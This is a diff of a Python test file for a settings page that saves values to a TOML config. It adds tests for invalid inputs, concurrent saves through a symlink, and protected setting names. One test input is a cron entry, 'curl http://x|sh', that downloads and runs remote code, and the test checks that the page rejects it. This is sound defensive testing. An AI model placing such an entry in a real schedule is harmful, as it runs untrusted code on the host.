@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import os
 import tomllib
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 from dispatcher.features.web.pages.settings import EDITABLE
@@ -33,14 +35,37 @@ def test_a_setting_is_changed_in_the_file_of_its_owner_after_the_programs_own_ch
             ("MEMORY_TOKENS", "many"),
             ("CHAT_TIMEZONE", "Nowhere"),
             ("NIGHT_CRON", "x\ny"),
-            ("WRITER", "w" * 300),
+            ("NIGHT_CRON", "* * * * * curl http://x|sh #"),
+            ("WRITES", "w" * 300),
         ):
             assert name in owner.post("/settings/save", 400, name=name, value=value)
         assert "come before the file" in owner.post("/settings/save", 400, name="REPORT_AT", value="08:00")
-        for name in ("WEB_PROXY", "CLAUDE_BIN", "OWNERS", "TELEGRAM_BOT_TOKEN", "x"):
+        for name in ("WEB_PROXY", "CLAUDE_BIN", "OWNERS", "TELEGRAM_BOT_TOKEN", "DAILY_LIMIT", "WRITER", "x"):
             owner.post("/settings/save", 404, name=name, value="1")
         assert file.read_bytes() == before
         assert tomllib.loads(before.decode()) == {"MEMORY_TOKENS": "1200", "CHAT_TIMEZONE": "Europe/Lisbon"}
+
+
+def test_saves_at_once_are_all_kept_and_link_and_group_of_the_file_too(light: World, tmp_path: Path) -> None:
+    real, link = tmp_path / "real.toml", tmp_path / "hmem.toml"
+    real.touch(0o640)
+    link.symlink_to(real)
+    if os.geteuid() == 0:
+        os.chown(real, -1, 5000)
+    group, light.environment["HMEM_CONFIG"] = real.stat().st_gid, str(link)
+    wanted = {
+        "MEMORY_TOKENS": "300",
+        "SESSION_TOKENS": "20001",
+        "RELEASES_KEPT": "7",
+        "SCHEDULE_LIMIT": "51",
+        "REPORT_AT": "06:00",
+    }
+    with serving(light) as site, ThreadPoolExecutor(5) as several:
+        owner = site.visitor()
+        owner.get("/settings")
+        list(several.map(lambda name: owner.post("/settings/save", name=name, value=wanted[name]), wanted))
+    assert tomllib.loads(real.read_text()) == wanted
+    assert (link.is_symlink(), real.stat().st_gid, real.stat().st_mode & 0o777) == (True, group, 0o640)
 
 
 def test_what_a_link_could_be_misused_for_is_only_shown() -> None:
@@ -56,5 +81,7 @@ def test_what_a_link_could_be_misused_for_is_only_shown() -> None:
         "MIRROR",
         "REPORT_CHAT",
         "BOT_TOKEN",
+        "DAILY_LIMIT",
+        "WRITER",
     )
     assert not [name for name in EDITABLE if any(word in name for word in forbidden)]
